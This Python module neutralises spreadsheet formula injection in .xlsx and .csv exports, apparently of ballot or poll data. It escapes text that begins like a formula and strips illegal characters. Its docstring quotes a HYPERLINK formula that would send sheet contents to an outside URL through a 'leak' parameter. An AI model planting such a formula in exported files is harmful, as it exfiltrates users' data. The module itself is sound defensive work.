"""Spreadsheets written from people's text: the text stays text, never a formula that Excel or WPS
runs when the file is opened (a suggestion `=HYPERLINK("http://…?leak="&A1,"click")` would
otherwise send the sheet's contents away with one click).

.xlsx: openpyxl stores a string starting with "=" as a formula and "#N/A"-like strings as error
values; `append_row` writes such strings as string cells instead. Numbers and dates stay numbers
and dates. A control character other than tab, newline and CR cannot be stored in an .xlsx at all
(openpyxl raises IllegalCharacterError, and the whole export fails): `append_row` removes them, so
a text stored before forms cleaned their input (common/text.py) still exports.

.csv: a spreadsheet evaluates a cell starting with = + - @, tab or CR; `csv_row` puts a "'" before
such text. A value that already starts with "'" gets one more, so `csv_read` gives back exactly
what was written (the published ballot file is read back to recount a poll). Plain numbers such as
"-1.5" are left as they are: a spreadsheet reads them as the numbers they are.
"""

import re

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

CSV_QUOTE = "'"
CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", CSV_QUOTE)
_CSV_STARTS = frozenset(CSV_FORMULA_STARTS)
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?\Z")


def append_row(sheet, values):
    """Append `values` to an openpyxl worksheet (write-only or not), text as string cells."""
    sheet.append([_cell(sheet, value) for value in values])


def _cell(sheet, value):
    # Only the strings openpyxl would turn into a formula or an error need a cell of their own;
    # wrapping every string would slow exports of a million rows for nothing.
    if not isinstance(value, str):
        return value
    if ILLEGAL_CHARACTERS_RE.search(value):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if value.startswith("=") or value in ERROR_CODES:
        cell = WriteOnlyCell(sheet, value)
        cell.data_type = "s"
        return cell
    return value


def csv_row(values):
    """`values` as a CSV row a spreadsheet shows as they are, without running any of them."""
    # Most rows hold nothing to neutralise: look before copying (a ballot file has a million).
    for value in values:
        if isinstance(value, str) and value[:1] in _CSV_STARTS:
            return [csv_text(value) for value in values]
    return values


def csv_text(value):
    """One CSV value: text starting as a formula would, behind a "'"; anything else unchanged."""
    if (
        isinstance(value, str)
        and value.startswith(CSV_FORMULA_STARTS)
        and not _PLAIN_NUMBER.match(value)
    ):
        return CSV_QUOTE + value
    return value


def csv_read(value):
    """A value read from a CSV file `csv_row` wrote, as it was before."""
    return value[1:] if isinstance(value, str) and value.startswith(CSV_QUOTE) else value
